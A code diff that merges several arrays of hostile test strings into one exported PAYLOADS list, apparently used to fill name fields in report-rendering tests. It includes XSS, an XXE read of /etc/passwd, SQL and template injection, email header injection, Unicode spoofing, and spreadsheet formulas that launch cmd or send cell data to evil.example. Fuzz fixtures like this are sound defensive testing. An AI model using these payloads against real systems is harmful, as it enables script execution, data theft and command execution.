@@ -1,6 +1,7 @@
 /** Harmful names for leads. Each of them is used once for everything in a report that has a name. */
 
-const SCRIPTS = [
+export const PAYLOADS: readonly string[] = [
+  // Scripts.
   '<script>alert(1)</script>',
   '</title></head><body onload=alert(1)>',
   '</td></tr></table><img src=x onerror=alert(1)>',
@@ -12,9 +13,7 @@ const SCRIPTS = [
   '<base href="https://evil.example/">',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   '<plaintext>',
-]
-
-const ATTRIBUTES = [
+  // Attributes.
   "' onmouseover='alert(1)",
   '" onmouseover="alert(1)',
   '` onmouseover=`alert(1)',
@@ -25,9 +24,7 @@ const ATTRIBUTES = [
   'data:text/html,<script>alert(1)</script>',
   '<a href="https://evil.example">Unsubscribe</a>',
   'https://evil.example/?q="><b>',
-]
-
-const STYLES_AND_COMMENTS = [
+  // Styles and comments.
   '<style>*{display:none}</style>',
   '</style><script>alert(1)</script>',
   'x;}*{display:none',
@@ -35,16 +32,12 @@ const STYLES_AND_COMMENTS = [
   '<![endif]--><b>for Word</b>',
   ']]><x>',
   '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
-]
-
-const ESCAPES = [
+  // Texts that are escaped already.
   '&lt;script&gt;alert(1)&lt;/script&gt;',
   '&amp;lt;b&amp;gt;',
   '%3Cscript%3Ealert(1)%3C/script%3E',
   '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
-]
-
-const TEMPLATES = [
+  // Templates and statements.
   '{{title}} {{{title}}} {{constructor.constructor "alert(1)"}}',
   '{{> body}}{{#each this}}{{@key}}{{/each}}',
   "$& $1 $` $' </head>",
@@ -52,35 +45,26 @@ const TEMPLATES = [
   '${process.env.HOME} #{7*7} <%= 7*7 %>',
   "'; DROP TABLE lead; --",
   '__proto__',
-]
-
-const LINES = [
+  // Line ends.
   'a\r\nBcc: eve@example.org\r\n\r\nbody',
   'a\nSubject: mine\n\n--boundary',
   '=?utf-8?q?a=0D=0ABcc=3A_eve=40example=2Eorg?=',
   'one\u2028two\u2029three\u0085four\u000bfive',
   '.\r\nQUIT',
-]
-
-const HIDDEN_AND_TURNED = [
+  // Characters that are hidden or turn the text.
   '\u202egpj.exe\u2066 turned',
   'left\u200f\u061cright',
   'zero\u200bwidth\ufeff\u2060',
   '\u0000\u0008\u001b[2Jnull',
   '\ud800 half',
   'раураl.com аpple',
-]
-
-const LONG = [
+  // Long texts.
   '<'.repeat(5000),
   'W'.repeat(5000),
   'ﷺ'.repeat(500),
   `z${'\u0301'.repeat(3000)}`,
   '👩‍👩‍👧‍👦'.repeat(300),
-]
-
-/** Texts that a spreadsheet would run as formulas. */
-const FORMULAS = [
+  // Texts that a spreadsheet would run as formulas.
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("https://evil.example/?"&A1,"open")',
   '+1+cmd|calc',
@@ -88,18 +72,6 @@ const FORMULAS = [
   '\t=1+1',
   '＝1+1',
   '=1+1";=1+1,"=1+1',
-]
-
-export const PAYLOADS: readonly string[] = [
-  ...SCRIPTS,
-  ...ATTRIBUTES,
-  ...STYLES_AND_COMMENTS,
-  ...ESCAPES,
-  ...TEMPLATES,
-  ...LINES,
-  ...HIDDEN_AND_TURNED,
-  ...LONG,
-  ...FORMULAS,
 ]
 
 /** The same payloads, with titles that fit into one line of the test report. */
